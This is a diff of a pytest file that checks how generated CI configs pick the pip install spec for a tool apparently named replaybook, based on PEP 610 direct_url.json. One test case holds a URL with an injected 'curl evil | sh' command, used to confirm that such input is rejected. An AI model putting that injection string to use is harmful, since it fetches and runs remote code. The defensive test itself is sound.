@@ -122,13 +122,62 @@ def test_the_ci_files_parse_and_run_replaybook_test_all_on_every_push(pack: Path
     assert "replaybook doctor --fix" in steps and "replaybook test --all ." in steps
 
     gitlab = yaml.safe_load((pack / ".gitlab-ci.yml").read_text())
-    assert gitlab["variables"]["REPLAYBOOK_PIP_SPEC"] == "replaybook"
+    # This checkout's editable install is no use to CI: left empty, and the job asks for it.
+    assert gitlab["variables"]["REPLAYBOOK_PIP_SPEC"] == newpack.installed_pip_spec() == ""
+    assert github["env"]["REPLAYBOOK_PIP_SPEC"] == "${{ vars.REPLAYBOOK_PIP_SPEC || '' }}"
     assert gitlab["variables"]["DOCKER_HOST"] == "tcp://docker:2376"
     job = gitlab["replaybook-test"]
     assert job["image"] == "docker:27" and job["services"] == ["docker:27-dind"]
     assert any("$REPLAYBOOK_PIP_SPEC" in line for line in job["before_script"])
     assert "replaybook doctor --fix" in job["before_script"]
     assert job["script"][-1] == "replaybook test --all ."
+
+
+@pytest.mark.parametrize(
+    ("direct_url", "spec"),
+    [
+        ({"url": "https://github.com/acme/replaybook.git", "vcs_info": {"vcs": "git", "commit_id": "4e8"}},
+         "git+https://github.com/acme/replaybook.git@4e8"),
+        ({"url": "https://files.example/replaybook-0.1.0-py3-none-any.whl", "archive_info": {}},
+         "https://files.example/replaybook-0.1.0-py3-none-any.whl"),
+        ({"url": "file:///home/me/replaybook", "dir_info": {"editable": True}}, ""),
+        ({"url": "https://example/x.whl'; curl evil | sh; '", "archive_info": {}}, ""),
+    ],
+    ids=["git", "wheel", "local-checkout", "quote-in-url"],
+)
+def test_the_ci_files_install_replaybook_from_where_it_came(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, direct_url: dict[str, object], spec: str
+) -> None:
+    """PEP 610's direct_url.json says where pip installed replaybook from; a place another
+    machine cannot reach (or text that could end the YAML's quotes) leaves the variable empty."""
+    from importlib import metadata
+
+    class Installed:
+        version = "0.1.0"
+
+        @staticmethod
+        def read_text(name: str) -> str | None:
+            return json.dumps(direct_url) if name == "direct_url.json" else None
+
+    monkeypatch.setattr(metadata, "distribution", lambda _name: Installed())
+    assert newpack.installed_pip_spec() == spec
+    made = newpack.create_pack(tmp_path / "pack").directory
+    gitlab = yaml.safe_load((made / ".gitlab-ci.yml").read_text())
+    assert gitlab["variables"]["REPLAYBOOK_PIP_SPEC"] == spec
+
+
+def test_a_release_from_an_index_is_pinned_to_its_version(monkeypatch: pytest.MonkeyPatch) -> None:
+    from importlib import metadata
+
+    class Installed:
+        version = "0.3.1"
+
+        @staticmethod
+        def read_text(_name: str) -> str | None:
+            return None  # no direct_url.json: installed from a package index
+
+    monkeypatch.setattr(metadata, "distribution", lambda _name: Installed())
+    assert newpack.installed_pip_spec() == "replaybook==0.3.1"
 
 
 def _make(pack: Path, *args: str) -> subprocess.CompletedProcess[str]:
